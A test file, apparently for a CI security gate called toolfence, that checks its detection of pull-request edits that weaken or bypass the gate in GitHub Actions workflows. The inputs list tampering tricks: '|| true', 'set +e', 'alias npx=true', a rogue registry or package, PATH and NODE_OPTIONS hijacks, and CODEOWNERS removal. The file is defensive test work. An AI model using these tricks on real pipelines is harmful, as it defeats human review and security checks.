import { describe, expect, test } from "vitest";
import { parse } from "yaml";
import { compareWorkflows, ownersOf } from "../../src/verify/workflows.ts";

const RUN = `on: [pull_request]
jobs:
  verify:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@v4
      - run: npx toolfence verify
`;
const ACTION = RUN.replace("run: npx toolfence verify", "uses: toolfence/toolfence@v0.1.0");
const said = (base: string, head: string): string[] =>
  compareWorkflows([parse(base)], [parse(head)], [], "0.1.0").map(({ id, message }) => `${id}: ${message}`);
const SILENT = "gate.workflow.weakened: The workflow that runs toolfence now does not fail when toolfence does.";
const REMOVED = "gate.removed: No workflow runs toolfence any more.";
const other = (name: string, is: string, was = "none"): string =>
  `gate.workflow.weakened: toolfence is run otherwise: its \`${name}\` went from \`${was}\` to \`${is}\`.`;

describe("a command that guards less", () => {
  test.each([
    ["toolfence check", other("command", "check", "verify")],
    ["toolfence verify --base HEAD", other("base", "HEAD")],
    ["toolfence verify --base=toolfence.manifest.json", other("base", "toolfence.manifest.json")],
    ["TOOLFENCE_BASE=HEAD npx toolfence verify", other("base", "HEAD")],
    ["toolfence verify --allow-missing-base", other("missing", "allowed")],
    ["toolfence verify examples/empty", other("directory", "examples/empty")],
    ["toolfence@0.0.1 verify", other("version", "0.0.1")],
    ["npx -p evil-toolfence toolfence verify", other("program", "-p evil-toolfence")],
    ["./toolfence verify", other("program", "./toolfence")],
    ["echo toolfence verify", REMOVED],
    ["toolfence verify --help", REMOVED],
    ["toolfence explain verify", REMOVED],
    ["if npx toolfence verify; then echo ok; fi", SILENT],
    ["toolfence verify &", SILENT],
    ["toolfence verify || true", SILENT],
    ["toolfence verify | tee log", SILENT],
    ["toolfence verify && echo ok || echo widened", SILENT],
    ["toolfence verify && STATUS=0 || STATUS=$?", SILENT],
    ["toolfence verify || exit 1 || true", SILENT],
    ["toolfence verify && echo ok; echo done", SILENT],
    ["npm run toolfence verify", other("program", "npm run".slice(4))],
    ["pnpm --filter docs exec toolfence verify", other("program", "docs")],
    ["pnpm -r exec toolfence verify", other("program", "-r")],
    ["toolfence approve --all --i-am-human --reason x && npx toolfence verify", SILENT],
    ["toolfence@1.0.0 approve --all --i-am-human && npx toolfence verify", SILENT],
    ["npx --registry https://evil.example toolfence verify", other("program", "--registry https://evil.example")],
    ["PATH=./evil:$PATH npx toolfence verify", other("program", "PATH=./evil:$PATH")],
    ["toolfence verify --version", REMOVED],
  ])("%s", (command, found) => {
    const line = /^(?:npx|npm|pnpm|echo|if|TOOL|\.)/u.test(command) ? command : `npx ${command}`;
    expect(
      said(
        RUN,
        RUN.replace("npx toolfence verify", () => JSON.stringify(line)),
      ),
    ).toEqual([found]);
  });

  test.each([
    ["exit 0\n          npx toolfence verify", SILENT],
    ["! npx toolfence verify", SILENT],
    ["npx toolfence verify \\\n            --format text || true", SILENT],
    ["# toolfence verify", REMOVED],
    ["npm ci\n          npx toolfence verify --format text", undefined],
    ["set +o errexit\n          npx toolfence verify", SILENT],
    ["set -u +e\n          npx toolfence verify", SILENT],
    ["set -n\n          npx toolfence verify", SILENT],
    ["trap 'exit 0' EXIT\n          npx toolfence verify", SILENT],
    ["alias npx=true\n          npx toolfence verify", SILENT],
    ["export NODE_OPTIONS=--require=./evil.cjs\n          npx toolfence verify", other("program", "NODE_OPTIONS=--require=./evil.cjs")],
    ["pushd examples/empty\n          npx toolfence verify", other("directory", "examples/empty")],
    ["if ! npx toolfence verify; then\n            echo widened\n            exit 1\n          fi", undefined],
    ["if ! npx toolfence verify; then\n            echo widened\n          fi", SILENT],
    ["npx toolfence verify || { echo widened; exit 1; }", undefined],
    ["npx toolfence verify || { echo widened; }", SILENT],
    ["cat <<EOF > note.txt\n          hello\n          EOF\n          npx toolfence verify", SILENT],
    ['echo "<<A"\n          exit 0\n          A\n          npx toolfence verify', SILENT],
    ["# <<A\n          set +e\n          A\n          npx toolfence verify\n          true", SILENT],
    ["set -o pipefail\n          npx toolfence verify | tee log", undefined],
    ["cat <<EOF\n          npx toolfence verify\n          EOF", SILENT],
    [`${"echo a\n          ".repeat(12_000)}npx toolfence verify`, REMOVED],
    ["{\n          npx toolfence verify\n          } || true", SILENT],
    ["export TOOLFENCE_BASE=HEAD\n          npx toolfence verify", other("base", "HEAD")],
    ["echo TOOLFENCE_BASE=HEAD >> $GITHUB_ENV\n          npx toolfence verify", other("base", "HEAD")],
    ["cd /tmp/empty\n          npx toolfence verify", other("directory", "tmp/empty")],
    ["if ! npx toolfence verify; then exit 1; fi", undefined],
    ["npx toolfence verify || exit 1", undefined],
    ["(npx toolfence verify)", undefined],
    ['npx toolfence verify >> "$GITHUB_STEP_SUMMARY" 2>&1', undefined],
    ['echo "or: npx toolfence approve --tool X"\n          npx toolfence verify', undefined],
  ])("in a script of some lines: %j", (script, found) => {
    expect(
      said(
        RUN,
        RUN.replace("run: npx toolfence verify", () => `run: |\n          ${script}`),
      ),
    ).toEqual(found === undefined ? [] : [found]);
  });

  test.each([
    ["npx toolfence verify", 'npx toolfence verify\n        shell: "echo {0}"', SILENT],
    ["npx toolfence verify", "npx toolfence verify\n        env: { TOOLFENCE_BASE: HEAD }", other("base", "HEAD")],
    ["npx toolfence verify", "npx toolfence verify\n        working-directory: examples", other("directory", "examples")],
    ["on: [pull_request]", "on: [pull_request]\nenv: { TOOLFENCE_BASE: HEAD }", other("base", "HEAD")],
    ["on: [pull_request]", "on: [pull_request]\ndefaults: { run: { working-directory: examples } }", other("directory", "examples")],
    ["runs-on:", "strategy: { matrix: { x: [] } }\n    runs-on:", REMOVED],
    ["actions/checkout@v4", "actions/checkout@v4\n        with: { ref: main }", other("checkout of", "main")],
  ])("around it: %j to %j", (from, to, found) => {
    expect(
      said(
        RUN,
        RUN.replace(from, () => to),
      ),
    ).toEqual([found]);
  });
});

test.each([
  ["toolfence/toolfence@v0.1.0", "attacker/toolfence@main", [other("program", "attacker/toolfence", "toolfence/toolfence")]],
  ["toolfence/toolfence@v0.1.0", "./.github/toolfence", [other("program", "./.github/toolfence", "toolfence/toolfence")]],
  ["toolfence/toolfence@v0.1.0", "toolfence/toolfence@v0.0.9", [other("ref", "v0.0.9", "v0.1.0")]],
  ["toolfence/toolfence@v0.1.0", "toolfence/toolfence@v0.1.0\n        with: { base: HEAD }", [other("base", "HEAD")]],
  ["toolfence/toolfence@v0.1.0", "toolfence/toolfence@v0.1.0\n        with: { version: 0.0.1 }", [other("version", "0.0.1")]],
  ["toolfence/toolfence@v0.1.0", "toolfence/toolfence@v0.1.0\n        with: { directory: examples }", [other("directory", "examples")]],
  ["toolfence/toolfence@v0.1.0", "toolfence/toolfence@main", [other("ref", "main", "v0.1.0")]],
  ["toolfence/toolfence@v0.1.0", "toolfence/toolfence@v0", []],
  ["toolfence/toolfence@v0.1.0", "toolfence/toolfence@v0.1.0\n        with: { allow-missing-base: true }", [other("missing", "allowed")]],
  ["toolfence/toolfence@v0.1.0", "toolfence/toolfence@v0.2.0", []],
  ["toolfence/toolfence@v0.1.0", "toolfence/toolfence@0123456789012345678901234567890123456789", []],
  ["toolfence/toolfence@v0.1.0", "toolfence/toolfence@v0.1.0\n        with: { directory: ., comment: always }", []],
])("the action: %j to %j", (from, to, found) => {
  expect(
    said(
      ACTION,
      ACTION.replace(from, () => to),
    ),
  ).toEqual(found);
});

test.each([
  ["npx toolfence verify", "npx --yes toolfence verify --format json=report.json --format github"],
  ["npx toolfence verify", "pnpm exec toolfence verify"],
  ["npx toolfence verify", "yarn run toolfence verify"],
  ["npx toolfence verify", "bunx --bun toolfence verify ./"],
  ["npx toolfence verify", "timeout 300 npx --quiet toolfence verify"],
  ["npx toolfence verify", "pnpm --filter . exec toolfence verify"],
  ["npx toolfence verify", "./node_modules/.bin/toolfence verify"],
  ["npx toolfence verify", "npx toolfence@0.1.0 verify"],
  ["npx toolfence verify", "npx toolfence@^0.2.0 verify"],
  ["runs-on:", "strategy: { matrix: { node: [20], exclude: [] } }\n    runs-on:"],
  ["actions/checkout@v4", "actions/checkout@v4\n        with: { ref: '${{ github.event.pull_request.head.sha }}' }"],
  ["actions/checkout@v4", "actions/checkout@v4\n      - uses: actions/checkout@v4\n        with: { repository: a/b, path: .ci }"],
  ["npx toolfence verify", "npx toolfence verify --workspaces --strict ."],
  ["actions/checkout@v4", "actions/checkout@v5"],
  ["actions/checkout@v4", "actions/checkout@v4\n        with: { fetch-depth: 0 }"],
  [
    "      - run: npx toolfence verify",
    "      - run: npm test\n      - run: npx toolfence verify\n      - run: npx toolfence verify --base HEAD",
  ],
])("what guards as much is no finding: %j to %j", (from, to) => {
  expect(
    said(
      RUN,
      RUN.replace(from, () => to),
    ),
  ).toEqual([]);
});

test("an expression of the host is one word, however it is spaced", () => {
  const based = (base: string): string => RUN.replace("verify\n", () => `verify --base "origin/${base}"\n`);
  expect(said(based("${{ github.base_ref }}"), based("${{github.base_ref}}"))).toEqual([]);
  expect(said(based("${{ github.base_ref }}"), based("${{ github.head_ref }}"))).toEqual([
    other("base", "origin/${{github.head_ref}}", "origin/${{github.base_ref}}"),
  ]);
});

test("every package at once is no less than some of them", () => {
  const two = RUN.replace("toolfence verify", "toolfence verify packages/a");
  expect(said(two, RUN.replace("toolfence verify", "toolfence verify --workspaces"))).toEqual([]);
});

test("a step that was not there is one more, and another that is lost is told by what is left", () => {
  const two = `${RUN}      - run: npx toolfence verify packages/a\n`;
  expect(said(RUN, two)).toEqual([]);
  expect(said(two, RUN)).toEqual([other("directory", "none", "packages/a")]);
});

test.each([
  [["@org/sec"], ["@org/sec", "@ann"], []],
  [["@org/sec", "@ann"], ["@ann"], []],
  [["@org/sec"], ["@mallory"], ["gate.owner.removed: CODEOWNERS no longer gives `toolfence.policy.yaml` to `@org/sec`."]],
  [["@org/sec"], [], ["gate.owner.removed: CODEOWNERS no longer gives `toolfence.policy.yaml` to anybody."]],
  [[], ["@mallory"], []],
])("owners: %j to %j", (before, after, found) => {
  const rows = compareWorkflows([], [], [{ path: "toolfence.policy.yaml", before, after }], "0.1.0");
  expect(rows.map(({ id, message }) => `${id}: ${message}`)).toEqual(found);
});

test("what is no name of GitHub's owns nothing", () => {
  expect(ownersOf("* nobody", "a")).toEqual([]);
  expect(ownersOf("* @org/sec a@b.example # @c", "a")).toEqual(["@org/sec", "a@b.example"]);
});

describe("packages that the action judges", () => {
  const each = ACTION.replace("uses: toolfence/toolfence@v0.1.0", "uses: toolfence/toolfence@v0.1.0\n        with: { workspaces: true }");
  test("less of them is a weakening, more is none", () => {
    expect(said(each, ACTION)).toEqual([other("workspaces", "none", "yes")]);
    expect(said(each, each.replace("true", '"false"'))).toEqual([other("workspaces", "none", "yes")]);
    expect(said(ACTION, each)).toEqual([]);
    expect(said(each, each)).toEqual([]);
  });
});
